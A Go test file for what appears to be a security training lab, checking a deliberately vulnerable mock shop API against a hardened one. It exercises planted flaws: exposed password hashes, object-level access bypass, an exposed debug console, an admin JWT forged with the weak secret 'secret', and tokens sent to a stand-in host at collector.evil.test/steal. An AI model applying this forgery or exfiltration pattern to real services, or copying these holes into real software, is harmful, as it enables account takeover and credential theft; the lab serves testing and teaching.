package lab

import (
	"encoding/json"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/golang-jwt/jwt/v5"
)

func TestVulnShop(t *testing.T) {
	t.Parallel()
	w := startWorld(t)
	c := newClient(t, w)
	base, plain, tok := w.Vuln.BaseURL, "http://api.vulnshop.test", w.Vuln.Token
	werk := map[string]string{"Server": werkzeugServer, "X-Content-Type-Options": "", "Strict-Transport-Security": ""}
	invalid := map[string]string{"WWW-Authenticate": "Bearer", "Server": werkzeugServer}
	runHTTPCases(t, c, []httpCase{
		{name: "spec", url: w.Vuln.SpecURL, status: 200, headers: werk, contains: []string{`"openapi": "3.0.3"`}},
		{name: "users without token (broken auth)", url: base + "/api/v1/users", status: 200, headers: werk,
			contains: []string{`"password_hash"`, `"email"`, "alice@vulnshop.test"}},
		{name: "user without token", url: base + "/api/v1/users/bob", status: 401, headers: invalid,
			contains: []string{`"status": "fail"`, `"message": "Invalid token"`}},
		{name: "user with bad token", url: base + "/api/v1/users/bob", token: "not.a.jwt", status: 401, headers: invalid},
		{name: "user with token (BOLA, cacheable)", url: base + "/api/v1/users/bob", token: tok, status: 200,
			headers: map[string]string{"Cache-Control": ""}, contains: []string{`"username": "bob"`}, absent: []string{"password_hash"}},
		{name: "me without token", url: base + "/api/v1/me", status: 401, headers: invalid},
		{name: "me with token", url: base + "/api/v1/me", token: tok, status: 200,
			headers: map[string]string{"Cache-Control": ""}, contains: []string{`"username": "alice"`}},
		{name: "login", method: "POST", url: base + "/api/v1/login", body: `{"username":"alice","password":"alice123"}`,
			status: 200, headers: map[string]string{"Cache-Control": ""}, contains: []string{`"auth_token": "ey`}},
		{name: "login wrong password", method: "POST", url: base + "/api/v1/login", body: `{"username":"alice","password":"x"}`, status: 401},
		{name: "books", url: base + "/api/v1/books", status: 200, contains: []string{"book_title"}},
		{name: "book", url: base + "/api/v1/books/1", status: 200, contains: []string{`"id": 1`}},
		{name: "book traceback", url: base + "/api/v1/books/abc", status: 500, headers: werk, contains: []string{
			"requests.exceptions.ConnectionError: HTTPSConnectionPool(host='metrics.vulnshop.test', port=443): Max retries exceeded",
			`File <cite class="filename">"/app/api_views/books.py"</cite>, line <em class="line">42</em>`,
			`File "/app/api_views/books.py", line 42`,
			"Werkzeug Debugger",
		}},
		{name: "console", url: base + "/console", status: 200, contains: []string{
			"<title>Console // Werkzeug Debugger</title>", "The console is ready", "__debugger__"}},
		{name: "export lures to the collector", url: base + "/api/v1/export", token: tok, status: 302,
			headers: map[string]string{"Location": "https://collector.evil.test/steal"}},
		{name: "legacy downgrades to http", url: base + "/api/v1/legacy", status: 302,
			headers: map[string]string{"Location": "http://api.vulnshop.test/api/v1/books"}},
		{name: "404 page", url: base + "/nope", status: 404, headers: werk, contains: []string{"<title>404 Not Found</title>"}},
		{name: "plain http, no redirect", url: plain + "/api/v1/books", status: 200, headers: werk, contains: []string{"book_title"}},
		{name: "plain http users", url: plain + "/api/v1/users", status: 200, contains: []string{"password_hash"}},
		{name: "docs", url: "https://docs.vulnshop.test/", status: 200},
	})
}

func TestVulnShopToken(t *testing.T) {
	t.Parallel()
	w := startWorld(t)
	tok, err := jwt.Parse(w.Vuln.Token, func(*jwt.Token) (any, error) { return []byte("secret"), nil },
		jwt.WithValidMethods([]string{"HS256"}), jwt.WithExpirationRequired())
	if err != nil {
		t.Fatalf("Vuln.Token is not HS256 with the weak secret: %v", err)
	}
	if sub, _ := tok.Claims.GetSubject(); sub != "alice" {
		t.Errorf("sub = %q, want alice", sub)
	}
	exp, _ := tok.Claims.GetExpirationTime()
	if exp == nil || exp.Before(time.Now().AddDate(0, 0, 364)) || exp.After(time.Now().AddDate(0, 0, 366)) {
		t.Errorf("exp = %v, want a year from now", exp)
	}
	// A token forged with the cracked secret is accepted.
	forged, err := jwt.NewWithClaims(jwt.SigningMethodHS256, jwt.MapClaims{"sub": "admin"}).SignedString([]byte("secret"))
	if err != nil {
		t.Fatal(err)
	}
	got := do(t, newClient(t, w), "GET", w.Vuln.BaseURL+"/api/v1/me", forged, "")
	if got.status != 200 || !strings.Contains(got.body, `"admin": true`) {
		t.Errorf("forged token: %d %s", got.status, got.body)
	}
}

func TestCleanShop(t *testing.T) {
	t.Parallel()
	w := startWorld(t)
	c := newClient(t, w)
	base, tok := w.Clean.BaseURL, w.Clean.Token
	hard := map[string]string{
		"Strict-Transport-Security": "max-age=63072000; includeSubDomains",
		"X-Content-Type-Options":    "nosniff",
		"Cache-Control":             "no-store",
		"Server":                    "",
	}
	unauth := map[string]string{"WWW-Authenticate": `Bearer realm="cleanshop"`, "Cache-Control": "no-store"}
	forged, err := jwt.NewWithClaims(jwt.SigningMethodHS256, jwt.MapClaims{"sub": "admin"}).SignedString([]byte("secret"))
	if err != nil {
		t.Fatal(err)
	}
	runHTTPCases(t, c, []httpCase{
		{name: "spec", url: w.Clean.SpecURL, status: 200, headers: hard, contains: []string{"https://auth.cleanshop.test/oauth/token"}},
		{name: "users without token", url: base + "/api/v1/users", status: 401, headers: unauth},
		{name: "users with token", url: base + "/api/v1/users", token: tok, status: 200, headers: hard,
			contains: []string{`"username": "bob"`}, absent: []string{"password_hash", "$2b$"}},
		{name: "user without token", url: base + "/api/v1/users/alice", status: 401, headers: unauth},
		{name: "own user", url: base + "/api/v1/users/alice", token: tok, status: 200, headers: hard},
		{name: "other user (no BOLA)", url: base + "/api/v1/users/bob", token: tok, status: 403, headers: hard},
		{name: "me", url: base + "/api/v1/me", token: tok, status: 200, headers: hard},
		{name: "token forged with weak secret", url: base + "/api/v1/me", token: forged, status: 401, headers: unauth},
		{name: "me without token", url: base + "/api/v1/me", status: 401, headers: unauth},
		{name: "login", method: "POST", url: base + "/api/v1/login", body: `{"username":"alice","password":"alice123"}`,
			status: 200, headers: hard, contains: []string{"auth_token"}},
		{name: "books", url: base + "/api/v1/books", status: 200, headers: hard},
		{name: "bad book id: small JSON", url: base + "/api/v1/books/abc", status: 400, headers: hard,
			contains: []string{`"error": "invalid_id"`}, absent: []string{"Traceback", "metrics", ".py"}},
		{name: "no console", url: base + "/console", status: 404, headers: hard, absent: []string{"Werkzeug"}},
		{name: "export stays here", url: base + "/api/v1/export", token: tok, status: 200, headers: map[string]string{"Location": ""}},
		{name: "export without token", url: base + "/api/v1/export", status: 401, headers: unauth},
		{name: "legacy redirects same origin", url: base + "/api/v1/legacy", token: tok, status: 301,
			headers: map[string]string{"Location": "https://api.cleanshop.test/api/v1/books"}},
		{name: "plain http redirects", url: "http://api.cleanshop.test/api/v1/users?x=1", status: 301,
			headers: map[string]string{"Location": "https://api.cleanshop.test/api/v1/users?x=1", "Content-Length": "0"}},
		{name: "token endpoint", method: "POST", url: "https://auth.cleanshop.test/oauth/token", status: 400,
			headers: hard, contains: []string{`"error": "invalid_request"`}},
		{name: "docs", url: "https://docs.cleanshop.test/", status: 200, headers: hard},
	})
}

func TestCollectorRecords(t *testing.T) {
	t.Parallel()
	w := startWorld(t)
	c := newClient(t, w)
	got := do(t, c, "GET", "https://collector.evil.test/steal?q=1", "sekrit-token", "")
	if got.status != 200 || got.body != "ok" {
		t.Fatalf("collector: %d %q", got.status, got.body)
	}
	do(t, c, "POST", "http://collector.evil.test/push", "", `{"a":1}`)
	reqs := w.Collector.Requests()
	if len(reqs) != 2 {
		t.Fatalf("recorded %d requests, want 2", len(reqs))
	}
	r0, r1 := reqs[0], reqs[1]
	if !r0.TLS || r0.Host != collectorHost || r0.Method != "GET" || r0.Path != "/steal?q=1" ||
		r0.Header.Get("Authorization") != "Bearer sekrit-token" {
		t.Errorf("first request: %+v", r0)
	}
	if r1.TLS || r1.Method != "POST" || string(r1.Body) != `{"a":1}` {
		t.Errorf("second request: %+v", r1)
	}
	if !w.Collector.Saw("sekrit-token") || w.Collector.Saw(w.Vuln.Token) {
		t.Error("Saw: wrong answer")
	}
	reqs[0].Header.Set("Authorization", "changed")
	if w.Collector.Requests()[0].Header.Get("Authorization") == "changed" {
		t.Error("Requests returned shared headers")
	}
	w.Collector.Reset()
	if n := len(w.Collector.Requests()); n != 0 {
		t.Errorf("after Reset: %d requests", n)
	}
}

// TestSpecsMatchSites checks each Target's document: it is what the site
// serves, it is OpenAPI 3.0, and every declared GET path exists.
func TestSpecsMatchSites(t *testing.T) {
	t.Parallel()
	w := startWorld(t)
	c := newClient(t, w)
	for _, tg := range []Target{w.Vuln, w.Clean, w.Hostile} {
		t.Run(tg.Name, func(t *testing.T) {
			t.Parallel()
			if got := do(t, c, "GET", tg.SpecURL, "", ""); got.body != string(tg.Spec) {
				t.Errorf("served spec differs from Target.Spec")
			}
			var doc struct {
				OpenAPI string                                `json:"openapi"`
				Servers []struct{ URL string }                `json:"servers"`
				Paths   map[string]map[string]json.RawMessage `json:"paths"`
			}
			if err := json.Unmarshal(tg.Spec, &doc); err != nil {
				t.Fatal(err)
			}
			if !strings.HasPrefix(doc.OpenAPI, "3.0.") || len(doc.Servers) == 0 || doc.Servers[0].URL != tg.BaseURL {
				t.Errorf("openapi %q servers %v", doc.OpenAPI, doc.Servers)
			}
			if tg.Name == "hostile" {
				return // its paths hang on purpose; see hostile_test.go
			}
			for path, ops := range doc.Paths {
				if _, ok := ops["get"]; !ok {
					continue
				}
				p := strings.NewReplacer("{username}", "alice", "{id}", "1").Replace(path)
				if got := do(t, c, "GET", tg.BaseURL+p, tg.Token, ""); got.status == http.StatusNotFound {
					t.Errorf("GET %s: 404", p)
				}
			}
		})
	}
}

func TestVulnSpecDeclaresFlaws(t *testing.T) {
	t.Parallel()
	for _, want := range []string{
		`"url": "https://legacy-api.vulnshop.test"`,
		`"tokenUrl": "https://login.vulnshop.test/oauth/token"`,
		`"x-upstream": "https://metrics.vulnshop.test/v1/push"`,
		`"externalDocs": {"description": "API guide", "url": "https://docs.vulnshop.test"}`,
		`"security": [{"bearerAuth": []}]`,
		`"bearerFormat": "JWT"`,
	} {
		if !strings.Contains(string(vulnSpecBase), want) {
			t.Errorf("vulnshop spec lacks %s", want)
		}
	}
}
